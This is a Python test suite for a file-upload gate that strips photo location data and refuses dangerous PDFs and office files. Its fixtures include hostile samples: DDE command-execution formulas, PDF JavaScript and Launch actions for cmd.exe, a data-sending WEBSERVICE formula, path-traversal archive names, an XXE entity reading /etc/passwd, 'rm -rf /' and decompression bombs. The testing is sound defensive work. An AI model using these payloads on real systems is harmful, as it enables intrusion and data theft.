"""The gate for files: what comes in, what stays out and is told why, and what photographs no longer tell."""

import contextlib
import hashlib
import io
import time
import zipfile

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms

from institution.uploads import UploadRefused, accept
from institution.uploads.acceptance import safe_name
from institution.uploads.reasons import FOUND, NOTES, REASONS, REMEDIES
from tests import uploaded
from tests.uploaded import docx, odt, packed, pdf, picture, relations, with_parts, xlsx

LONG = 15  # seconds, on a busy machine; the gate itself gives up after 20


def accepted(content: bytes, name: str):
    return accept(io.BytesIO(content), name=name)


def refused(content: bytes, name: str) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        accepted(content, name)
    return caught.value


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(content))


# --- What is accepted -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "content_type"),
    [
        (pdf(), "Acta.pdf", "application/pdf"),
        (uploaded.plain_picture("PNG"), "foto.PNG", "image/png"),
        (uploaded.plain_picture("JPEG"), "foto.jpeg", "image/jpeg"),
        (uploaded.plain_picture("WEBP"), "foto.webp", "image/webp"),
        (xlsx("=SUM(A1:A9)", link="https://example.org/a"), "lista.xlsx", f"{uploaded.OOXML}.spreadsheetml.sheet"),
        (docx(), "informe.docx", f"{uploaded.OOXML}.wordprocessingml.document"),
        (odt(), "informe.odt", "application/vnd.oasis.opendocument.text"),
    ],
    ids=lambda value: value if isinstance(value, str) and "." in value else "",
)
def test_what_holds_nothing_strange_is_kept_to_the_byte(content, name, content_type):
    kept = accepted(content, name)
    assert kept.content == content
    assert (kept.file_name, kept.content_type, kept.size) == (name, content_type, len(content))
    assert kept.sha256 == hashlib.sha256(content).hexdigest()
    assert not kept.sha256_received
    assert not kept.notes


def test_harmless_things_of_offices_are_no_reason_to_refuse():
    links = relations(("hyperlink", "https://example.org"), ("hyperlink", r"file:///\\servidor\actas"))
    accepted(docx(**{"word/_rels/document.xml.rels": links}), "a.docx")
    template = relations(("attachedTemplate", r"file:///C:\Plantillas\Memorando.dotx"))
    accepted(docx(**{"word/_rels/settings.xml.rels": template}), "a.docx")
    accepted(docx(**{"word/embeddings/Libro1.xlsx": xlsx("=A1")}), "a.docx")  # the data of a chart
    accepted(xlsx('="a|b"&SUM(A1:A2)', "='Enero|Junio'!A1"), "a.xlsx")
    accepted(pdf(encryption=owner_only()), "a.pdf")
    accepted(pdf(lambda it: it.attachments.__setitem__("datos.csv", b"distrito,mujeres\n")), "a.pdf")
    accepted(odt('<text:a xlink:href="https://example.org">x</text:a>'), "a.odt")


def owner_only() -> pikepdf.Encryption:
    """Forbids printing and opens for everybody: common in official papers."""
    return pikepdf.Encryption(owner="secreto", user="")


def test_the_name_is_made_safe_and_completed():
    assert safe_name(r"C:\Users\ana\acta.pdf") == "acta.pdf"
    assert safe_name("../../etc/passwd") == "passwd"
    assert safe_name("acta\u202efdp.exe\x00") == "actafdp.exe"
    assert safe_name('a<b>:"|?*.pdf') == "a-b-.pdf"
    assert safe_name("") == "archivo"
    assert safe_name(".pdf") == "pdf"
    assert len(safe_name("ñ" * 400 + ".pdf")) == 150
    kept = accepted(pdf(), "Informe N. 12")
    assert kept.file_name == "Informe N. 12.pdf"
    assert kept.notes == (str(NOTES["named"]),)


# --- What photographs tell ------------------------------------------------------------------------------------


def tells_nothing(content: bytes) -> bool:
    """By Pillow's own reading, and by looking for what such data begin with."""
    with opened(content) as image:
        image.load()
        exif = image.getexif()
        traces = (b"Exif", b"EXIF", b"eXIf", b"xmpmeta", b"Alicia", b"Tel\xc3", b"tEXt", b"iTXt")
        return not (len(exif) or exif.get_ifd(uploaded.GPS) or any(trace in content for trace in traces))


@pytest.mark.parametrize("format", ["JPEG", "PNG", "WEBP"])
def test_a_photograph_loses_where_it_was_taken_and_no_pixel(format):
    content = picture(format)
    assert opened(content).getexif().get_ifd(uploaded.GPS)
    kept = accepted(content, f"foto.{format.lower()}")
    assert tells_nothing(kept.content)
    assert opened(kept.content).tobytes() == opened(content).tobytes()
    assert kept.notes == (str(NOTES["location_removed"]),)
    assert kept.sha256 == hashlib.sha256(kept.content).hexdigest()
    assert kept.sha256_received == hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize("format", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("turned", range(2, 9))
def test_a_photograph_is_turned_as_the_camera_was(format, turned):
    kept = accepted(picture(format, size=(64, 32), turned=turned), f"foto.{format.lower()}")
    assert str(NOTES["turned"]) in kept.notes
    assert tells_nothing(kept.content)
    with opened(kept.content) as image:
        lies = turned >= 5
        assert image.size == ((32, 64) if lies else (64, 32))
        corner = {2: (4, 4), 3: (4, 28), 4: (4, 28), 5: (4, 4), 6: (28, 4), 7: (28, 4), 8: (4, 4)}[turned]
        red, _green, blue = image.convert("RGB").getpixel(corner)
        assert red > 150 > blue


def test_a_turned_photograph_keeps_its_quality_and_its_colours():
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    content = picture(turned=6, quality=83, icc_profile=profile)
    kept = opened(accepted(content, "foto.jpg").content)
    assert kept.info["icc_profile"] == profile
    assert kept.quantization == opened(content).quantization


def test_what_hides_behind_a_photograph_is_left_out():
    photo = uploaded.plain_picture("JPEG")
    kept = accepted(photo + packed({"a.txt": "escondido"}), "foto.jpg")
    assert kept.content == photo
    kept = accepted(uploaded.plain_picture("PNG") + b"<script>1</script>", "foto.png")
    assert b"script" not in kept.content


def test_the_same_photograph_is_cleaned_to_the_same_bytes():
    content = picture(turned=6)
    assert accepted(content, "a.jpg").sha256 == accepted(content, "b.jpg").sha256


def test_damaged_camera_data_do_not_cost_the_photograph():
    content = picture(exif=b"Exif\x00\x00MM\x00*\xff\xff\xff\xff")
    assert tells_nothing(accepted(content, "foto.jpg").content)


def test_pictures_that_are_no_single_picture_of_bearable_size():
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    for format in ("PNG", "WEBP"):
        out = io.BytesIO()
        frames[0].save(out, format, save_all=True, append_images=frames[1:])
        assert refused(out.getvalue(), f"a.{format.lower()}").code == "animated"
    for width, height in ((7_000, 7_000), (60_000, 60_000), (2_000_000_000, 2)):
        assert refused(uploaded.png_that_claims(width, height), "a.png").code in {"too_many_pixels", "damaged"}
    assert refused(uploaded.plain_picture("PNG", (7_000, 6_000), "1"), "a.png").code == "too_many_pixels"


def test_the_largest_photograph_is_turned_within_the_memory():
    kept = accepted(picture(size=(7_000, 5_700), turned=6), "foto.jpg")
    assert opened(kept.content).size == (5_700, 7_000)


# --- What stays out -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "code", "said"),
    [
        (b"", "acta.pdf", "empty", "vacío"),
        (b"MZ" + b"\x00" * 200, "acta.pdf", "foreign", "un programa"),
        (b"\x7fELF" + b"\x00" * 200, "acta.pdf", "foreign", "un programa"),
        (b"#!/bin/sh\nrm -rf /\n", "acta.pdf", "foreign", "un programa"),
        (b"<!doctype html><script>1</script>", "acta.pdf", "foreign", "una página web"),
        (b'\xef\xbb\xbf <?xml version="1.0"?><svg onload="x()"/>', "foto.png", "foreign", "SVG"),
        (b"alert(document.cookie)//", "foto.jpg", "foreign", "texto simple"),
        (b"distrito;mujeres\nLima;3\n", "lista.csv", "foreign", "guárdelo como XLSX"),
        (b"GIF89a" + b"\x00" * 20, "foto.gif", "foreign", "GIF"),
        (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40, "IMG_1.HEIC", "foreign", "El más compatible"),
        (packed({"a.txt": "x"}), "todo.zip", "foreign", "Descomprímalo"),
        (packed({}), "todo.xlsx", "foreign", "comprimido"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 900, "lista.xls", "foreign", "antiguo"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 900 + "EncryptedPackage".encode("utf-16-le"),
            "lista.xlsx",
            "encrypted_office",
            "contraseña",
        ),
        (pdf(), "acta.docx", "contradicts", "termina en .docx, pero el contenido es PDF"),
        (uploaded.plain_picture("PNG"), "foto.jpg", "contradicts", "termina en .jpg, pero el contenido es PNG"),
        (xlsx(), "lista.docx", "contradicts", "cambie la terminación a .xlsx"),
        (pdf(), "acta.pdf.exe", "contradicts", "termina en .exe"),
        (pdf()[:-200], "acta.pdf", "cut_off", "incompleto"),
        (picture()[:-300], "foto.jpg", "damaged", "dañado"),
        (xlsx()[:-100], "lista.xlsx", "damaged", "dañado"),
        (b"%PDF-1.7\n%%EOF", "acta.pdf", "damaged", "dañado"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_refused_with_what_happened_and_what_to_do(content, name, code, said):
    refusal = refused(content, name)
    assert refusal.code == code
    assert said in str(refusal)
    assert f"No se guardó nada de «{name}»; lo demás sigue igual." in str(refusal)


def test_every_reason_is_a_sentence_that_can_be_said():
    details = dict.fromkeys(
        ("size", "most", "extension", "kind", "right", "pages", "megapixels", "attachment", "target", "formula"), "x"
    )
    for code in REASONS:
        for found in (*FOUND, ""):
            assert "%(" not in str(UploadRefused(code, "a.pdf", details | {"found": found}))
    assert set(REMEDIES) <= set(FOUND)


def action(kind: str, **more):
    return Dictionary(S=Name(f"/{kind}"), **more)


def nested_names(it) -> None:
    """A script in the third level of the tree of names, where it runs on opening."""
    leaf = it.make_indirect(Dictionary(Names=Array([String("x"), action("JavaScript", JS=String("app.alert(1)"))])))
    middle = it.make_indirect(Dictionary(Kids=Array([leaf])))
    it.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([middle])))


def on_page(it) -> None:
    it.pages[0].AA = Dictionary(O=action("JavaScript", JS=it.make_stream(b"app.alert(1)")))


def on_annotation(it) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action("Launch", F=String("c")))
    it.pages[0].Annots = Array([it.make_indirect(link)])


def chained(it) -> None:
    first = action("URI", URI=String("https://example.org"), Next=Array([action("Launch", F=String("cmd.exe"))]))
    it.Root.OpenAction = first


def attached(it) -> None:
    it.attachments["factura.exe"] = b"MZ\x00"


def disguised(it) -> None:
    it.attachments["datos.csv"] = b"MZ\x90\x00"


PDF_CASES = {
    "pdf_script": [
        lambda it: setattr(it.Root, "OpenAction", action("JavaScript", JS=String("app.alert(1)"))),
        nested_names,
        on_page,
    ],
    "pdf_launch": [on_annotation, chained, lambda it: setattr(it.Root, "OpenAction", action("GoToR", F=String("x")))],
    "pdf_sends": [lambda it: setattr(it.Root, "OpenAction", action("SubmitForm", F=String("https://example.org")))],
    "pdf_xfa": [lambda it: setattr(it.Root, "AcroForm", Dictionary(Fields=Array(), XFA=it.make_stream(b"<x/>")))],
    "pdf_media": [lambda it: setattr(it.pages[0], "Annots", Array([Dictionary(Subtype=Name("/RichMedia"))]))],
    "pdf_attachment": [attached, disguised],
}


@pytest.mark.parametrize(
    ("code", "change"), [(code, change) for code, changes in PDF_CASES.items() for change in changes]
)
@pytest.mark.parametrize("packed_up", [False, True], ids=["plain", "object streams"])
def test_a_pdf_that_would_do_something(code, change, packed_up):
    mode = pikepdf.ObjectStreamMode.generate if packed_up else pikepdf.ObjectStreamMode.disable
    assert refused(pdf(change, object_stream_mode=mode), "a.pdf").code == code


def test_a_pdf_with_its_names_written_in_disguise():
    content = pdf(PDF_CASES["pdf_script"][0]).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")
    assert b"JavaScript" not in content
    assert refused(content, "a.pdf").code == "pdf_script"


def test_a_pdf_that_nobody_could_open_or_that_is_something_else_too():
    assert refused(pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "a.pdf").code == "encrypted_pdf"
    assert refused(pdf(PDF_CASES["pdf_script"][0], encryption=owner_only()), "a.pdf").code == "pdf_script"
    tail = b"\n%%EOF\n"
    assert refused(pdf() + packed({"a.txt": "x"}) + tail, "a.pdf").code == "two_at_once"
    assert refused(b"%PDF-1.7\n" + xlsx() + tail, "a.pdf").code in {"two_at_once", "damaged"}
    assert refused(xlsx() + pdf(), "a.pdf").code in {"damaged", "contradicts"}


def test_a_pdf_that_takes_bounded_work():
    begun = time.monotonic()
    assert refused(pdf(pages=2_500), "a.pdf").code == "too_many_pages"

    def bomb(it) -> None:
        it.pages[0].Contents = it.make_stream(b"\x00" * 200_000_000)

    content = pdf(bomb)
    assert len(content) < 1_000_000
    assert refused(content, "a.pdf").code == "too_heavy"

    def cluster(it) -> None:
        it.Root.Bombs = Array([it.make_indirect(it.make_stream(bytes([n]) * 100_000_000)) for n in range(6)])

    assert refused(pdf(cluster), "a.pdf").code == "too_heavy"

    def many(it) -> None:
        it.Root.Many = Array([it.make_indirect(Dictionary(N=n)) for n in range(210_000)])

    mode = pikepdf.ObjectStreamMode.generate
    assert refused(pdf(many, object_stream_mode=mode), "a.pdf").code == "too_heavy"
    assert time.monotonic() - begun < 4 * LONG


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
FIELD = "<w:r><w:fldChar/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:instrText>{}</w:instrText></w:r>"
RELS = "word/_rels/document.xml.rels"
OFFICE_CASES = [
    ("macros", docx(main=MACRO_MAIN), "a.docx"),
    ("macros", docx(**{"word/vbaProject.bin": b"x"}), "a.docx"),
    ("macros", with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": "<x/>"}), "a.xlsx"),
    ("macros", odt(**{"Basic/Standard/Module1.xml": "<x/>"}), "a.odt"),
    ("macros", odt('<script:event-listener script:event-name="dom:load"/>'), "a.odt"),
    ("external_template", docx(**{RELS: relations(("attachedTemplate", "https://example.org/t.dotm"))}), "a.docx"),
    ("external_template", docx(**{RELS: relations(("attachedTemplate", r"\\mal.example\t.dotm"))}), "a.docx"),
    ("external_content", docx(**{RELS: relations(("image", "https://example.org/p.png"))}), "a.docx"),
    ("external_content", docx(**{RELS: relations(("oleObject", "https://example.org/o"))}), "a.docx"),
    ("external_content", odt('<draw:image xlink:href="https://example.org/p.png"/>'), "a.odt"),
    ("external_content", odt('<table:table-source xlink:href="../otro.ods"/>'), "a.odt"),
    (
        "external_workbook",
        with_parts(xlsx(), {"xl/externalLinks/_rels/l.xml.rels": relations(("externalLinkPath", "otro.xlsx"))}),
        "a.xlsx",
    ),
    ("data_connection", with_parts(xlsx(), {"xl/connections.xml": "<connections/>"}), "a.xlsx"),
    ("fetching_formula", xlsx('=_xlfn.WEBSERVICE("https://example.org/?"&A1)'), "a.xlsx"),
    ("dde", xlsx("=cmd|'/c calc'!A0"), "a.xlsx"),
    ("dde", docx(FIELD.format("DD", 'EAUTO c:\\\\cmd.exe "/c calc"')), "a.docx"),
    ("dde", docx('<w:fldSimple w:instr="DDE cmd"/>'), "a.docx"),
    ("embedded_object", docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "a.docx"),
    ("embedded_object", docx(**{"word/activeX/activeX1.xml": "<x/>"}), "a.docx"),
    ("embedded_object", docx(**{"word/media/foto.png": b"MZ\x00"}), "a.docx"),
    ("embedded_object", docx("<w:altChunk/>"), "a.docx"),
    ("macros", docx(**{"word/embeddings/Libro.xlsx": with_parts(xlsx(), {"xl/vbaProject.bin": b"x"})}), "a.docx"),
    ("nested_archive", docx(**{"word/media/a.png": packed({"a": "b"})}), "a.docx"),
    ("unsafe_names", docx(**{"../../etc/cron.d/x": "x"}), "a.docx"),
    ("unsafe_names", docx(**{"/etc/passwd": "x"}), "a.docx"),
    ("unsafe_names", docx(**{"..\\x": "x"}), "a.docx"),
    ("damaged", docx(**{"WORD/DOCUMENT.XML": "<x/>"}), "a.docx"),
    ("damaged", docx("<w:r>"), "a.docx"),
    ("damaged", docx(**{"word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "a.docx"),
    ("damaged", docx(**{"word/x.xml": '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}), "a.docx"),
    ("bomb", docx(**{"word/media/a.bmp": b"\x00" * 40_000_000}), "a.docx"),
    ("bomb", docx(**{f"word/{n}.bin": b"" for n in range(3_100)}), "a.docx"),
    ("foreign", docx(main=f"{uploaded.OOXML}.wordprocessingml.template.main+xml"), "a.docx"),
]


@pytest.mark.parametrize(
    ("code", "content", "name"), OFFICE_CASES, ids=[f"{n}-{case[0]}" for n, case in enumerate(OFFICE_CASES)]
)
def test_an_office_file_that_would_do_something(code, content, name):
    assert refused(content, name).code == code


def test_an_office_file_that_lies_about_its_size():
    content = docx(**{"word/a.xml": "<a>" + " " * 5_000_000 + "</a>"})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.getinfo("word/a.xml").file_size
    small = content.replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert refused(small, "a.docx").code == "damaged"


# --- Whatever comes -------------------------------------------------------------------------------------------

VALID = {"a.pdf": pdf(), "a.jpg": picture(), "a.png": picture("PNG"), "a.xlsx": xlsx("=A1"), "a.docx": docx()}


def judged(content: bytes, name: str) -> None:
    begun = time.monotonic()
    with contextlib.suppress(UploadRefused):
        accepted(content, name)
    assert time.monotonic() - begun < LONG


@given(st.binary(max_size=4096), st.sampled_from(sorted(VALID)))
def test_any_bytes_are_accepted_or_refused(content, name):
    judged(content, name)


@given(st.data(), st.sampled_from(sorted(VALID)))
def test_any_damage_is_accepted_or_refused(data, name):
    content = bytearray(VALID[name])
    for _ in range(data.draw(st.integers(0, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    judged(bytes(content[: data.draw(st.integers(0, len(content)))]), name)


@given(st.text(max_size=300))
def test_any_name_is_made_safe(name):
    safe = safe_name(name)
    assert 0 < len(safe) <= 150
    assert not set(safe) & set('/\\<>:"|?*\x00\n\r\u202e')
    assert safe not in {".", ".."}
